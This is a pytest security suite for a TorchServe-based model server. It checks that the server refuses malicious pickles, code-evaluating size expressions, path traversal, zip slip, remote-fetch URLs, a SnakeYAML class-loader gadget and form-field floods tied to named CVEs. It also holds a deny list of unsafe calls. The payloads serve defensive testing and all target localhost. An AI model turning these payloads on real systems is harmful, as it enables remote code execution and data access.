"""Attacks: what docs/security.md promises is tried here, on a real server where it takes one."""

from __future__ import annotations

import ast
import io
import json
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import numpy as np
import pytest

from serving.archive import MANIFEST, ArchiveError, build_archive, read_manifest
from serving.client import KEY_FILE, Endpoint, RequestError, read_endpoint, read_token
from serving.inputs.spec import write_json
from serving.predictor import BACKENDS, Predictor
from serving.process import stop
from serving.program import ProgramError, check_program
from serving.state import check_archive, of_archive
from serving.tokens import rotate
from serving.torchserve import TorchServe
from tests.conftest import spec_of
from tests.live import PNG, same_answer, settings_of

ROOT = Path(__file__).parents[1]
slow = pytest.mark.slow  # starts a real server


class Trap:
    """Unpickled, it writes a file."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.target), "w")


@pytest.fixture
def sprung(tmp_path: Path) -> Path:
    """The file that a trap would write."""
    return tmp_path / "sprung"


@pytest.fixture
def trap(sprung: Path) -> bytes:
    return pickle.dumps(Trap(sprung))


# --- no pickle is ever loaded


def test_the_trap_springs_where_a_pickle_is_loaded(trap: bytes, sprung: Path) -> None:
    pickle.loads(trap).close()  # noqa: S301
    assert sprung.exists()


@pytest.fixture
def planted(bundle: Path, tmp_path: Path) -> Path:
    """A copy of a bundle, to be spoilt."""
    return Path(shutil.copytree(bundle, tmp_path / "planted"))


@pytest.mark.parametrize(
    ("file", "backend"),
    [
        ("model.onnx", "onnx"),
        ("model.pt2", "pt2"),
        ("weights.safetensors", "eager"),
        ("spec.json", "onnx"),
        ("bundle.json", "onnx"),
    ],
)
def test_a_pickle_in_the_place_of_a_bundles_file_is_refused(
    planted: Path, trap: bytes, sprung: Path, file: str, backend: str
) -> None:
    (planted / file).write_bytes(trap)
    with pytest.raises(Exception, match=r"(?i)protobuf|parse|zip|json|utf-8|header|no such|find|model"):
        Predictor(planted, backend)
    assert not sprung.exists()
    assert backend in BACKENDS


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An exported program with a size that is not known, as ours are."""
    import torch

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.layer = torch.nn.Linear(3, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.cat([self.layer(x), self.layer(x)])

    size = {0: torch.export.Dim("n")}
    exported = torch.export.export(Net(), (torch.zeros(2, 3),), dynamic_shapes=(size,))
    path = tmp_path_factory.mktemp("program") / "model.pt2"
    torch.export.save(exported, path)
    return path


def _changed(program: Path, folder: Path, change: Callable[[str, bytes], bytes], extra: str = "") -> Path:
    path = folder / "changed.pt2"
    with zipfile.ZipFile(program) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        if extra:
            new.writestr(extra, b"x")
    return path


def test_a_program_of_ours_is_loaded(program: Path, tmp_path: Path) -> None:
    """`export` leaves the sample inputs out, of which an empty file is written."""
    check_program(program)
    bare = _changed(program, tmp_path, lambda name, content: b"" if "sample_inputs" in name else content)
    check_program(bare)


@pytest.mark.parametrize("form", ["raw", "torch"])
def test_a_pickle_inside_an_exported_program_is_refused(
    program: Path, tmp_path: Path, sprung: Path, form: str
) -> None:
    """PyTorch itself unpickles this one: it asks for tensors alone, and where that fails, for anything."""
    import torch

    kept = io.BytesIO()
    if form == "raw":
        kept.write(pickle.dumps(Trap(sprung)))
    else:
        torch.save(Trap(sprung), kept)
    planted = _changed(program, tmp_path, lambda name, old: kept.getvalue() if name.endswith(".pt") else old)
    with pytest.raises(ProgramError, match="a pickle of more than tensors"):
        check_program(planted)
    assert not sprung.exists()


def test_code_in_the_size_of_an_exported_program_is_refused(program: Path, tmp_path: Path) -> None:
    """PyTorch evaluates these as Python."""

    def evil(name: str, old: bytes) -> bytes:
        call = b'"expr_str": "open(chr(97),chr(119))"'
        return re.sub(rb'"expr_str": "[^"]*"', call, old) if name.endswith("model.json") else old

    with pytest.raises(ProgramError, match="may run code"):
        check_program(_changed(program, tmp_path, evil))


@pytest.mark.parametrize(
    "expression",
    [
        "exec('x')", "S('exe'+'c'+'(1)')", "Symbol('a').__class__", "a.b", "Symbol(open)(1)", "lambda: 0",
        "[x for x in y]", "Symbol('a', key=eval(1))", "Lambda(1)", '"a"',
    ],
)  # fmt: skip
def test_sizes_may_only_be_arithmetic(program: Path, tmp_path: Path, expression: str) -> None:
    def evil(name: str, old: bytes) -> bytes:
        said = json.dumps({"expr_str": expression}).encode()
        return b'{"a": [' + said + b"]}" if name.endswith("model.json") else old

    with pytest.raises(ProgramError, match="may run code"):
        check_program(_changed(program, tmp_path, evil))


def test_pickled_weights_and_unknown_parts_of_a_program_are_refused(program: Path, tmp_path: Path) -> None:
    def pickled(name: str, old: bytes) -> bytes:
        return b'{"config": {"w": {"use_pickle": true}}}' if name.endswith("weights_config.json") else old

    with pytest.raises(ProgramError, match="weights are pickled"):
        check_program(_changed(program, tmp_path, pickled))
    with pytest.raises(ProgramError, match="no exported program of ours"):
        check_program(_changed(program, tmp_path, lambda _, old: old, "m/data/constants/custom_obj_0"))


def test_an_array_that_is_a_pickle_is_refused(tmp_path: Path, sprung: Path) -> None:
    from pipeline.core.dataset import Dataset

    folder = tmp_path / "data"
    folder.mkdir()
    np.save(folder / "image.npy", np.array([Trap(sprung)], dtype=object), allow_pickle=True)
    write_json(folder / "spec.json", spec_of((1, 28, 28), "ab"))
    with pytest.raises(ValueError, match="Python objects"):
        Dataset(folder).column("image")
    assert not sprung.exists()


CODE = [
    path for folder in ("serving", "pipeline", "models") for path in sorted((ROOT / folder).rglob("*.py"))
]
FORBIDDEN = {"pickle", "cPickle", "cloudpickle", "dill", "joblib", "shelve", "marshal", "jsonpickle"}


def _dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


def _wrong(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (f"import {each.name}" for each in node.names if each.name.split(".")[0] in FORBIDDEN)
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in FORBIDDEN:
            yield f"from {node.module} import"
        elif isinstance(node, ast.Call):
            name, given = _dotted(node.func), {word.arg: ast.unparse(word.value) for word in node.keywords}
            if name.endswith(("torch.load",)) and given.get("weights_only") != "True":
                yield f"{name} without weights_only=True"
            elif name in ("np.load", "numpy.load") and given.get("allow_pickle") != "False":
                yield f"{name} without allow_pickle=False"
            elif name in ("yaml.load", "yaml.unsafe_load", "pd.read_pickle", "eval", "exec", "os.system"):
                yield name
            elif given.get("shell") == "True" or given.get("trust_remote_code") == "True":
                yield f"{name} with {given}"


def test_no_code_of_ours_loads_a_pickle_or_evaluates_text() -> None:
    assert len(CODE) > 100
    found = {
        f"{path.relative_to(ROOT)}: {wrong}" for path in CODE for wrong in _wrong(ast.parse(path.read_text()))
    }
    # What a stage and the processes that it started itself tell each other, over pipes that nobody else has.
    engine = {f"pipeline/engine/{name}.py: import pickle" for name in ("local", "ray_data", "tasks")}
    assert found == engine


@pytest.mark.parametrize(
    "code",
    [
        "import pickle", "from joblib import load", "torch.load(p)", "torch.load(p, weights_only=False)",
        "np.load(p)", "np.load(p, allow_pickle=True)", "yaml.load(t)", "eval(t)", "subprocess.run(c, shell=True)",
    ],
)  # fmt: skip
def test_the_search_finds_what_it_looks_for(code: str) -> None:
    assert list(_wrong(ast.parse(code)))


# --- names and archives


@pytest.mark.parametrize("name", ["../evil", "a/b", "", ".hidden", "a b", "a\n", "/etc/x", "a\\b", "ü"])
def test_a_name_that_leads_elsewhere_is_refused(bundle: Path, tmp_path: Path, name: str) -> None:
    with pytest.raises(ArchiveError, match="may hold letters"):
        build_archive(bundle, tmp_path / "a.mar", name)
    for model in ({"modelName": name, "modelVersion": "1"}, {"modelName": "m", "modelVersion": name}):
        path = tmp_path / "b.mar"
        with zipfile.ZipFile(path, "w") as packed:
            packed.writestr(MANIFEST, json.dumps({"model": model}))
        with pytest.raises(ArchiveError, match="may stand there"):
            read_manifest(path)


def test_a_link_in_a_bundle_is_refused(planted: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    (planted / "notes.txt").symlink_to(tmp_path / "secret")
    with pytest.raises(ArchiveError, match="no links to others"):
        build_archive(planted, tmp_path / "a.mar", "m")


def test_an_archive_that_was_changed_after_it_was_certified_is_refused(stored: Path, tmp_path: Path) -> None:
    place = tmp_path / "store"
    shutil.copytree(stored.parent, place)
    (place / "receipt.json").write_text(json.dumps({"archive_sha256": "0" * 64}))
    with pytest.raises(ValueError, match="not what was certified"):
        check_archive(*of_archive(stored).every()[0][:2], place / stored.name)


# --- a live server, its model API on, asked by who holds the management token


@pytest.fixture(scope="module")
def state(stored: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("state")
    server = TorchServe(stored, settings_of(), folder, model_api=True)
    try:
        server.start(PNG)
        yield folder
    finally:
        stop(folder)


@pytest.fixture(scope="module")
def endpoint(state: Path) -> Endpoint:
    return read_endpoint(state)


@pytest.fixture
def manager(state: Path, endpoint: Endpoint) -> Iterator[httpx.Client]:
    headers = {"Authorization": f"Bearer {read_token(state, 'management')}"}
    with httpx.Client(
        base_url=endpoint.management_url, headers=headers, trust_env=False, timeout=60
    ) as client:
        yield client


@pytest.fixture
def bait() -> Iterator[tuple[int, list[bytes]]]:
    """A port that notes who comes."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def listen() -> None:
            while True:
                try:
                    connection, _ = listening.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(1000))

        threading.Thread(target=listen, daemon=True).start()
        yield listening.getsockname()[1], heard
        listening.shutdown(socket.SHUT_RDWR)


def _models(manager: httpx.Client) -> list[str]:
    return [each["modelName"] for each in manager.get("/models").json()["models"]]


@slow
@pytest.mark.parametrize("kind", ["models", "workflows"])
@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/evil.mar", "https://127.0.0.1:{port}/evil.mar", "HTTP://127.0.0.1:{port}/evil.mar",
        "http://127.0.0.1:{port}/..%2f..%2fevil.mar", "http://127.0.0.1:{port}/../../evil.mar", "http://a@127.0.0.1:{port}/e.mar",
        "ftp://127.0.0.1:{port}/evil.mar", "s3://bucket/evil.mar", "jar:http://127.0.0.1:{port}/evil.jar!/evil.mar",
    ],
)  # fmt: skip
def test_nothing_is_fetched_from_an_address(
    manager: httpx.Client, bait: tuple[int, list[bytes]], url: str, kind: str
) -> None:
    """CVE-2023-43654 and, with a path in it, CVE-2024-35198."""
    answer = manager.post(f"/{kind}", params={"url": url.format(port=bait[0])})
    assert 400 <= answer.status_code < 600, answer.text
    assert not bait[1], "the server asked"
    assert _models(manager) == ["digits"]


@slow
@pytest.mark.parametrize("kind", ["models", "workflows"])
def test_no_file_outside_the_store_is_loaded(
    manager: httpx.Client, stored: Path, tmp_path: Path, kind: str
) -> None:
    """CVE-2024-35198: names that lead out of the store."""
    evil = tmp_path / "evil.mar"
    shutil.copy(stored, evil)
    climbing = "../" * 12 + str(evil).lstrip("/")
    for url in (
        str(evil),
        f"file://{evil}",
        f"file:{evil}",
        climbing,
        f"./{climbing}",
        climbing.replace("/", "%2f"),
    ):
        answer = manager.post(f"/{kind}", params={"url": url})
        assert 400 <= answer.status_code < 600, (url, answer.text)
    assert _models(manager) == ["digits"]


@slow
def test_a_local_folder_is_loaded_for_nobody_without_the_management_token(
    endpoint: Endpoint, state: Path, tmp_path: Path
) -> None:
    """TorchServe loads any folder for who may manage it, whatever `allowed_urls` says; so nobody else may."""
    tokens = (
        "",
        "Bearer",
        "Bearer wrong",
        f"Bearer {read_token(state)}",
        f"Basic {read_token(state, 'management')}",
    )
    for token in tokens:
        headers = {"Authorization": token} if token else {}
        for method, path in (
            ("POST", f"/models?url={tmp_path}"),
            ("GET", "/models"),
            ("DELETE", "/models/digits"),
        ):
            answer = httpx.request(method, endpoint.management_url + path, headers=headers, trust_env=False)
            assert answer.status_code == 400, (token, method, path)
    management = {"Authorization": f"Bearer {read_token(state, 'management')}"}
    for path in ("/models", "/workflows", "/token?type=inference"):
        answer = httpx.post(endpoint.url + path, headers=management, trust_env=False)
        assert answer.status_code >= 400, "the port for predictions manages nothing"


def _in_store(endpoint: Endpoint, stored: Path, name: str, change: dict[str, bytes], manifest: dict) -> str:
    """An archive in the model store of a live server, where only this user can put one."""
    path = endpoint.scratch / "store" / f"{name}.mar"
    with zipfile.ZipFile(stored) as good, zipfile.ZipFile(path, "w") as bad:
        for inside in good.namelist():
            content = good.read(inside)
            if inside == MANIFEST:
                said = json.loads(content)
                said["model"] |= {"modelName": name, **manifest}
                content = json.dumps(said).encode()
            bad.writestr(inside, content)
        for inside, content in change.items():
            bad.writestr(inside, content)
    return path.name


@slow
def test_an_archive_writes_nothing_outside_its_folder(
    manager: httpx.Client, endpoint: Endpoint, stored: Path, tmp_path: Path
) -> None:
    """CVE-2023-48299: zip slip."""
    target = tmp_path / "slipped"
    climbing = "../" * 12 + str(target).lstrip("/")
    url = _in_store(endpoint, stored, "slip", {climbing: b"x", str(target): b"x"}, {})
    manager.post("/models", params={"url": url})
    assert not target.exists()


@slow
def test_a_models_yaml_runs_no_code(
    manager: httpx.Client, endpoint: Endpoint, stored: Path, bait: tuple[int, list[bytes]]
) -> None:
    """CVE-2022-1471: the tag makes an old SnakeYAML fetch code from an address."""
    address = f"http://127.0.0.1:{bait[0]}/"
    loader = (
        f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{address}"]]]]'
    )
    url = _in_store(
        endpoint, stored, "yaml", {"model-config.yaml": loader.encode()}, {"configFile": "model-config.yaml"}
    )
    answer = manager.post("/models", params={"url": url})
    assert answer.status_code >= 400, answer.text
    assert not bait[1]


@slow
@pytest.mark.parametrize(
    "content_type", ["multipart/form-data; boundary=x", "application/x-www-form-urlencoded"]
)
def test_a_form_of_very_many_fields_ends_no_server(
    endpoint: Endpoint, state: Path, bundle: Path, content_type: str
) -> None:
    """CVE-2024-29025: netty keeps as many fields of a form as a body holds; the limit of bodies bounds it."""
    field = (
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
        if "multipart" in content_type
        else b"a&"
    )
    headers = {"Authorization": f"Bearer {read_token(state)}", "Content-Type": content_type}
    for repeats in (2_000, 20_000):
        answer = httpx.post(
            f"{endpoint.url}/predictions/digits",
            content=field * repeats,
            headers=headers,
            trust_env=False,
            timeout=60,
        )
        assert 400 <= answer.status_code < 500, answer.text
    good = {"Authorization": headers["Authorization"], "Content-Type": "image/png"}
    answer = httpx.post(f"{endpoint.url}/predictions/digits", content=PNG, headers=good, trust_env=False)
    same_answer(answer.json(), bundle)


@slow
def test_uploads_leave_no_file_that_others_can_read(endpoint: Endpoint, state: Path) -> None:
    """CVE-2021-21290 and CVE-2022-24823: netty writes large uploads into the temporary folder."""
    assert endpoint.scratch.stat().st_mode & 0o077 == 0
    before = set(Path("/tmp").glob("FUp_*"))  # noqa: S108
    headers = {"Authorization": f"Bearer {read_token(state)}"}
    httpx.post(
        f"{endpoint.url}/predictions/digits", files={"a": b"x" * 1_000_000}, headers=headers, trust_env=False
    )
    assert set(Path("/tmp").glob("FUp_*")) == before  # noqa: S108


@slow
@pytest.mark.parametrize("kind", ["raw", "array", "base64"])
def test_a_pickle_as_a_request_is_refused(
    endpoint: Endpoint, state: Path, trap: bytes, sprung: Path, kind: str
) -> None:
    import base64

    array = io.BytesIO()
    np.save(array, np.array([Trap(sprung)], dtype=object), allow_pickle=True)
    encoded = json.dumps({"image": base64.b64encode(trap).decode()}).encode()
    body = {"raw": trap, "array": array.getvalue(), "base64": encoded}[kind]
    headers = {"Authorization": f"Bearer {read_token(state)}", "Content-Type": "application/octet-stream"}
    answer = httpx.post(f"{endpoint.url}/predictions/digits", content=body, headers=headers, trust_env=False)
    assert answer.status_code == 400
    assert not sprung.exists()


@slow
def test_a_pickle_in_the_place_of_the_tokens_is_refused(
    state: Path, trap: bytes, sprung: Path, tmp_path: Path
) -> None:
    (tmp_path / KEY_FILE).write_bytes(trap)
    with pytest.raises(RequestError, match="no inference token"):
        read_token(tmp_path)
    assert not sprung.exists()


# --- tokens


@slow
def test_tokens_change_without_a_restart(endpoint: Endpoint, state: Path, bundle: Path) -> None:
    def ask(token: str) -> httpx.Response:
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "image/png"}
        return httpx.post(f"{endpoint.url}/predictions/digits", content=PNG, headers=headers, trust_env=False)

    def manage(token: str) -> int:
        headers = {"Authorization": f"Bearer {token}"}
        return httpx.get(f"{endpoint.management_url}/models", headers=headers, trust_env=False).status_code

    old, old_management = read_token(state), read_token(state, "management")
    rotate(state)
    new, management = read_token(state), read_token(state, "management")
    assert len({old, old_management, new, management}) == 4
    same_answer(ask(new).json(), bundle)
    assert ask(old).status_code == 400, "the old one ends at once"
    assert (manage(management), manage(old_management)) == (200, 400)
    assert (state / KEY_FILE).stat().st_mode & 0o777 == 0o600


def test_tokens_of_no_server_cannot_be_changed(tmp_path: Path) -> None:
    with pytest.raises(RequestError, match="no server"):
        rotate(tmp_path)


# --- what the document says


def test_every_test_that_the_document_names_exists() -> None:
    text = (ROOT / "docs/security.md").read_text()
    named = set(re.findall(r"`(test_\w+)`", text))
    written = "\n".join(path.read_text() for path in (ROOT / "tests").glob("test_*.py"))
    files = {path.stem for path in (ROOT / "tests").glob("test_*.py")}
    assert len(named) >= 15
    assert not {name for name in named if f"def {name}(" not in written and name not in files}
    for advisory in ("CVE-2023-43654", "CVE-2022-1471", "CVE-2023-48299", "CVE-2024-35198", "CVE-2024-35199"):
        assert advisory in text


def test_the_audit_is_wired() -> None:
    """The advisories themselves are on the network; that the tool runs and the target calls it is not."""
    done = subprocess.run(
        [sys.executable, "-m", "pip_audit", "--version"], capture_output=True, text=True, env={**os.environ}
    )
    assert done.returncode == 0, done.stderr
    assert "pip-audit" in done.stdout
    asked = subprocess.run(["make", "-n", "audit"], cwd=ROOT, capture_output=True, text=True)
    assert "pip_audit" in asked.stdout, asked.stderr
